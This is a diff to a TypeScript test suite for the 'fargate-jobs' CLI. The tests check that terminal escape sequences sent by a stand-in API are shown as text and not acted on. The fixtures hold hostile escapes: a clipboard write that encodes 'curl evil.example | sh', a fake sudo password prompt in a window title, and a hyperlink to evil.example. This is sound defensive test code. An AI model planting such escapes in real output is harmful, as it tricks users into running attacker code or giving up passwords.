@@ -1,10 +1,9 @@
 /**
  * What `status`, `list` and `logs` let through to a terminal of what a server sent: against a
  * stand-in API whose job carries terminal escape sequences in its command, labels, failure and log.
- * A terminal is a pseudo-terminal made by util-linux `script`; a pipe is the test's own.
+ * A terminal is a pseudo-terminal made by util-linux `script` (Debian's essential bsdutils); a pipe is the test's own.
  */
 import assert from 'node:assert/strict';
-import { execFileSync } from 'node:child_process';
 import { after, before, describe, test } from 'node:test';
 import { runCli } from '../helpers/cli.ts';
 import { aJobDocument, startStandInApi, type StandInApi } from '../helpers/stand-in-api.ts';
@@ -17,16 +16,6 @@ const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
 const LOG_LINE = `\u001b[31mred\u001b[0m ${CLIPBOARD}copied${CLEAR}`;
 /** ESC, BEL, the other C0 controls but tab and newline, DEL and C1: what a terminal acts on. */
 const ACTIONABLE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
-
-/** Whether util-linux `script` is here to give the CLI a terminal. */
-function hasScript(): boolean {
-  try {
-    execFileSync('script', ['--version'], { stdio: 'ignore' });
-    return true;
-  } catch {
-    return false;
-  }
-}
 
 const quote = (word: string) => `'${word.replaceAll("'", "'\\''")}'`;
 
@@ -48,8 +37,9 @@ describe('fargate-jobs output of what a server sent', () => {
       failure: { category: 'USER_EXIT', message: `exited 1${TITLE}` },
       labels: { team: `platform${CLEAR}` },
     });
-    api = await startStandInApi(({ url }) => {
+    api = await startStandInApi(({ method, url }) => {
       if (url.pathname === `/jobs/${JOB_ID}`) return { body: job };
+      if (url.pathname === '/jobs' && method === 'POST') return { status: 202, body: { ...job, id: `job-1${TITLE}`, status: 'QUEUED' } };
       if (url.pathname === '/jobs') return { body: { jobs: [job], nextCursor: null } };
       if (url.pathname === `/jobs/${JOB_ID}/logs`) {
         return { body: { lines: [{ timestamp: '2026-12-01T10:00:02.000Z', message: LOG_LINE, stream: 'stdout' }], nextCursor: 'c1', complete: true } };
@@ -82,6 +72,14 @@ describe('fargate-jobs output of what a server sent', () => {
     assert.match(result.stdout, /echo \\x1b\]8;;https:\/\/evil\.example\\x07docs/);
   });
 
+  test('run --detach shows the id it was answered as text, not obeyed', async () => {
+    const result = await runCli(['run', '--detach', '--', 'true'], { env });
+
+    assert.equal(result.code, 0, result.stderr);
+    assert.doesNotMatch(result.stdout, ACTIONABLE);
+    assert.equal(result.stdout, 'job-1\\x1b]0;sudo: password for you:\\x07\n');
+  });
+
   test("an API error's message is shown, not obeyed", async () => {
     const result = await runCli(['status', 'job-01jdq8m4zv3k9x2c7f5h6w8r0v'], { env });
 
@@ -97,8 +95,7 @@ describe('fargate-jobs output of what a server sent', () => {
     assert.equal(result.stdout, `${LOG_LINE}\n`);
   });
 
-  test('logs on a terminal keeps colours and drops the clipboard write and the screen clear; --raw keeps them', { skip: !hasScript() && 'util-linux script is not installed' }, async () => {
-
+  test('logs on a terminal keeps colours and drops the clipboard write and the screen clear; --raw keeps them', async () => {
     const filtered = await onTerminal(['logs', JOB_ID], env);
     const raw = await onTerminal(['logs', JOB_ID, '--raw'], env);
 
@@ -107,7 +104,7 @@ describe('fargate-jobs output of what a server sent', () => {
     assert.equal(raw.stdout.replaceAll('\r\n', '\n'), `${LOG_LINE}\n`);
   });
 
-  test('wait on a terminal filters the job output the same way', { skip: !hasScript() && 'util-linux script is not installed' }, async () => {
+  test('wait on a terminal filters the job output the same way', async () => {
     const result = await onTerminal(['wait', JOB_ID], env);
 
     assert.equal(result.code, 1, result.stdout);
